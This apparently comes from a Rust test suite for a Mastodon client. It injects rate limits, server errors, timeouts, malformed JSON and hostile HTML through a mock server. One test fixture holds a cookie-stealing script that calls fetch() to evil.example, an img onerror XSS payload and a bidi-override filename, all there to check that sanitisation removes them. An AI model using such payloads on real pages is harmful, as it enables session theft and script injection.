//! What the client does when the server misbehaves, with faults injected through the
//! mock's control plane (`/api/v1/_mock/faults`): rate limits, server errors, a hung
//! connection, malformed JSON and hostile HTML. Nothing is lost: the cursor only moves
//! with a page that was read whole.

use std::time::{Duration, Instant};

use serde_json::json;
use switchboard_core::Timestamp;
use switchboard_platforms::{Provider, ProviderError};

use crate::support::{now, provider_for, test_options, texts, MockServer, User};

const NOTIFICATIONS: &str = "/api/v1/notifications";

async fn server_with_brand() -> (MockServer, User, User) {
    let server = MockServer::start().await;
    let brand = server.create_user("brand").await;
    let customer = server.create_user("dee").await;
    (server, brand, customer)
}

fn assert_no_token(error: &ProviderError, token: &str) {
    assert!(!error.to_string().contains(token), "no token in “{error}”");
    assert!(
        !format!("{error:?}").contains(token),
        "no token in {error:?}"
    );
}

#[tokio::test]
async fn a_rate_limit_waits_for_the_reset_and_spends_no_more_calls() {
    let (server, brand, _) = server_with_brand().await;
    let provider = provider_for(&server, &brand, test_options()).await;
    let reset = Timestamp(now().millis() + 40_000).to_rfc3339();
    server
        .add_fault(json!({
            "match": {"path": NOTIFICATIONS},
            "effect": {"type": "ratelimit", "headers": {"X-RateLimit-Reset": reset, "Retry-After": "3"}},
            "count": 1
        }))
        .await;
    let error = provider.fetch_since(None, now()).await.unwrap_err();
    let ProviderError::RateLimited { retry_after } = error else {
        panic!("a 429 is a rate limit: {error:?}");
    };
    assert!(
        retry_after > Duration::from_secs(30) && retry_after <= Duration::from_secs(40),
        "the reset time wins over a shorter Retry-After: {retry_after:?}"
    );
    assert_no_token(&error, &brand.token);

    // The window is spent: the next fetch does not even call the server.
    server
        .add_fault(
            json!({"match": {"path": NOTIFICATIONS}, "effect": {"type": "latency"}, "count": 5}),
        )
        .await;
    let error = provider.fetch_since(None, now()).await.unwrap_err();
    assert!(
        matches!(error, ProviderError::RateLimited { .. }),
        "{error:?}"
    );
    let rules = server.faults().await;
    assert_eq!(
        rules[0]["remaining"], 5,
        "no call reached the server: {rules:?}"
    );
}

#[tokio::test]
async fn a_burst_of_server_errors_is_retried_and_a_long_outage_is_reported() {
    let (server, brand, dee) = server_with_brand().await;
    let provider = provider_for(&server, &brand, test_options()).await;
    let start = provider.fetch_since(None, now()).await.unwrap();
    server
        .post_status(&dee, "@brand are you there?", None, "public")
        .await;

    server
        .add_fault(json!({"match": {"path": NOTIFICATIONS}, "effect": {"type": "status", "status": 503}, "count": 2}))
        .await;
    let page = provider
        .fetch_since(Some(&start.next_cursor), now())
        .await
        .unwrap();
    assert_eq!(
        texts(&page),
        vec!["@brand are you there?"],
        "two 503s are retried away"
    );

    server
        .post_status(&dee, "@brand hello??", None, "public")
        .await;
    server
        .add_fault(json!({"match": {"path": NOTIFICATIONS}, "effect": {"type": "status", "status": 500}, "count": 10}))
        .await;
    let error = provider
        .fetch_since(Some(&page.next_cursor), now())
        .await
        .unwrap_err();
    assert!(matches!(error, ProviderError::Unavailable(_)), "{error:?}");
    assert!(error.is_transient());
    assert_no_token(&error, &brand.token);

    server.clear_faults().await;
    let recovered = provider
        .fetch_since(Some(&page.next_cursor), now())
        .await
        .unwrap();
    assert_eq!(
        texts(&recovered),
        vec!["@brand hello??"],
        "nothing was lost during the outage"
    );
}

#[tokio::test]
async fn a_hung_connection_times_out_within_the_bound() {
    let (server, brand, dee) = server_with_brand().await;
    let provider = provider_for(&server, &brand, test_options()).await;
    let mut impatient_options = test_options();
    impatient_options.http.request_timeout = Duration::from_millis(1500);
    let impatient = provider_for(&server, &brand, impatient_options).await;
    let start = provider.fetch_since(None, now()).await.unwrap();
    server
        .post_status(&dee, "@brand ping", None, "public")
        .await;
    server
        .add_fault(
            json!({"match": {"path": NOTIFICATIONS}, "effect": {"type": "timeout"}, "count": 1}),
        )
        .await;
    let began = Instant::now();
    let error = impatient
        .fetch_since(Some(&start.next_cursor), now())
        .await
        .unwrap_err();
    assert_eq!(error, ProviderError::Timeout(Duration::from_millis(1500)));
    assert!(
        began.elapsed() < Duration::from_secs(5),
        "bounded: {:?}",
        began.elapsed()
    );
    let page = provider
        .fetch_since(Some(&start.next_cursor), now())
        .await
        .unwrap();
    assert_eq!(texts(&page), vec!["@brand ping"]);
}

#[tokio::test]
async fn malformed_json_gives_no_partial_page_and_loses_nothing() {
    let (server, brand, dee) = server_with_brand().await;
    let provider = provider_for(&server, &brand, test_options()).await;
    let start = provider.fetch_since(None, now()).await.unwrap();
    server
        .post_status(&dee, "@brand first", None, "public")
        .await;
    server
        .add_fault(json!({"match": {"path": "/api/v1/conversations"}, "effect": {"type": "malformed"}, "count": 1}))
        .await;
    let error = provider
        .fetch_since(Some(&start.next_cursor), now())
        .await
        .unwrap_err();
    assert!(matches!(error, ProviderError::Malformed(_)), "{error:?}");
    assert_no_token(&error, &brand.token);
    let page = provider
        .fetch_since(Some(&start.next_cursor), now())
        .await
        .unwrap();
    assert_eq!(
        texts(&page),
        vec!["@brand first"],
        "the mention read before the bad page is not lost"
    );
}

#[tokio::test]
async fn hostile_html_in_a_status_becomes_safe_plain_text() {
    let (server, brand, _) = server_with_brand().await;
    let provider = provider_for(&server, &brand, test_options()).await;
    let content = format!(
        "<p>Hi <span class=\"h-card\"><a href=\"https://x/@brand\" class=\"u-url mention\">@<span>brand</span></a></span>\
         <script>fetch('https://evil.example/?c='+document.cookie)</script><style>body{{display:none}}</style>\
         <img src=x onerror=\"alert(1)\"></p><p>&lt;b&gt;not bold&lt;/b&gt; caf&#233; \u{202E}gnp.exe\u{202C}<br>ok</p>\
         <p>{}</p>",
        "long ".repeat(5_000)
    );
    // A notification as docs.joinmastodon.org/entities/Notification documents it.
    let notification = json!([{
        "id": "9001",
        "type": "mention",
        "created_at": "2026-11-23T10:00:00.000Z",
        "group_key": "ungrouped-9001",
        "account": {"id": "77", "username": "mallory", "acct": "mallory@evil.example", "display_name": "<b>Mallory</b>"},
        "status": {
            "id": "9000",
            "created_at": "2026-11-23T10:00:00.000Z",
            "in_reply_to_id": null,
            "in_reply_to_account_id": null,
            "visibility": "public",
            "language": "en",
            "content": content,
            "spoiler_text": "",
            "account": {"id": "77", "username": "mallory", "acct": "mallory@evil.example", "display_name": "<b>Mallory</b>"},
            "reblog": null,
            "mentions": [{"id": brand.id, "username": "brand", "acct": "brand", "url": "https://x/@brand"}]
        }
    }]);
    server
        .add_fault(json!({"match": {"path": NOTIFICATIONS}, "effect": {"type": "status", "status": 200, "body": notification}, "count": 1}))
        .await;
    let page = provider.fetch_since(None, now()).await.unwrap();
    assert_eq!(page.items.len(), 1);
    let item = &page.items[0];
    let first_lines: Vec<&str> = item.text.lines().take(3).collect();
    assert_eq!(
        first_lines,
        vec!["Hi @brand", "", "<b>not bold</b> café gnp.exe"],
        "tags, scripts and styles go, entities decode once, bidi overrides go"
    );
    assert!(item.text.lines().nth(3) == Some("ok"));
    assert!(!item.text.contains("evil.example") && !item.text.contains("display:none"));
    assert!(item.text.chars().count() <= switchboard_mastodon::MAX_TEXT_CHARS);
    assert_eq!(item.author.handle, "@mallory@evil.example");
    assert_eq!(item.author.display_name, "Mallory");
    assert_eq!(item.lang.as_deref(), Some("en"));
    assert_eq!(
        item.created_at,
        Timestamp::parse_rfc3339("2026-11-23T10:00:00Z").unwrap()
    );
}
